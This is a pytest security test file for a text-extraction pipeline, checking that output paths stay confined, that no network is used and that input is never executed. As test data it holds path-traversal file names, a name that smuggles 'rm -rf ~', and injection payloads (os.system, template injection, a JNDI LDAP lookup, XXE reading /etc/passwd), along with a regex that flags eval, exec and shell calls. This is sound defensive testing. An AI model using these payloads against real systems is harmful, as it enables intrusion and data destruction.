"""Safety: no input name can place an output outside the output folder; no network; no evaluation
of input content."""

from __future__ import annotations

import json
import re
import socket
from pathlib import Path

import pytest
from conftest import ROOT, SEED
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.readers.base import document_id

SAFE = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]*$")

HOSTILE_NAMES = [
    "../../etc/passwd",
    "../outside.txt",
    "/etc/cron.d/job.txt",
    "/absolute/../../x.txt",
    "..",
    "...",
    ".hidden.txt",
    "-rf.txt",
    "--output=x.txt",
    "nul\x00byte.txt",
    "line\nbreak.txt",
    "C:\\Windows\\System32\\evil.txt",
    "..\\..\\evil.txt",
    "con.txt",
    "a" * 300 + ".txt",
    "é" * 200 + ".txt",
    "~/.bashrc",
    "$(rm -rf ~).txt",
    "%2e%2e%2fescape.txt",
    "\u202eevil\u202dtxt.exe",
    "",
]


def assert_safe(identifier: str, out: Path) -> None:
    assert SAFE.match(identifier), identifier
    assert len(identifier) <= 120
    target = (out / f"{identifier}.json").resolve()
    assert target.parent == out.resolve()


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=[repr(n)[:30] for n in HOSTILE_NAMES])
def test_hostile_names_give_ids_inside_the_output_folder(name, tmp_path):
    assert_safe(document_id(Path(name)), tmp_path)


@settings(max_examples=300, deadline=None)
@given(name=st.text(max_size=300))
def test_any_name_gives_an_id_inside_the_output_folder(name):
    assert_safe(document_id(Path(name)), Path("/srv/out"))


def test_long_names_keep_distinct_ids():
    first, second = document_id(Path("x" * 200 + "1.txt")), document_id(Path("x" * 200 + "2.txt"))
    assert first != second and len(first) <= 120


def test_no_network_during_extraction(tmp_path, monkeypatch, nlp):
    """The whole extraction runs with sockets forbidden: nothing is fetched at run time."""
    from pipeline.process import process

    def forbidden(*args, **kwargs):
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket, "socket", forbidden)
    monkeypatch.setattr(socket, "create_connection", forbidden)
    monkeypatch.setattr(socket, "getaddrinfo", forbidden)
    release = tmp_path / "release.md"
    release.write_text(
        SEED.read_text(encoding="utf-8")
        + "\n\n![logo](https://exemple.fr/logo.png) [site](http://exemple.fr)\n",
        encoding="utf-8",
    )
    [outcome] = process([release], tmp_path / "out")
    assert outcome.status == "written", outcome.reason


def test_input_content_is_never_evaluated(tmp_path, nlp):
    """Code, templates and lookups in a release are text: extracted as such, never run."""
    from pipeline.process import process

    canary = tmp_path / "canary"
    payloads = [
        f"__import__('os').system('touch {canary}')",
        f"{{{{ cycler.__init__.__globals__.os.system('touch {canary}') }}}}",
        f"${{jndi:ldap://exemple.fr/a}} $(touch {canary}) `touch {canary}`",
        '<script>alert(1)</script> <!ENTITY xxe SYSTEM "file:///etc/passwd">',
    ]
    release = tmp_path / "release.txt"
    release.write_text(
        SEED.read_text(encoding="utf-8") + "\n\n" + "\n".join(payloads) + "\n", encoding="utf-8"
    )
    [outcome] = process([release], tmp_path / "out")
    assert outcome.status == "written", outcome.reason
    assert not canary.exists()
    text = json.loads(Path(outcome.output).read_text(encoding="utf-8"))["document"]["text"]
    assert all(
        piece in text
        for piece in ("os').system('touch", "${jndi:ldap:", "$(touch", "<script>alert(1)</script>")
    )


def test_pipeline_code_has_no_dynamic_evaluation_or_shell():
    """A guard on the package source: input must never reach eval, exec, pickle or a shell, and
    only pipeline/fetch.py (which fetches the URLs a user names) may open a network connection."""
    forbidden = re.compile(
        r"\b(?:eval|exec)\(|\bpickle\b|\bmarshal\b|yaml\.load\(|\bos\.system\(|shell=True|\bsubprocess\b|urllib\.request|\brequests\b"
    )
    network = re.compile(r"urllib\.request")
    offenders = []
    for path in sorted((ROOT / "pipeline").rglob("*.py")):
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if (
                path == ROOT / "pipeline" / "fetch.py"
                and network.search(line)
                and not forbidden.search(network.sub("", line))
            ):
                continue
            if forbidden.search(line) and not line.lstrip().startswith("#"):
                offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert offenders == []
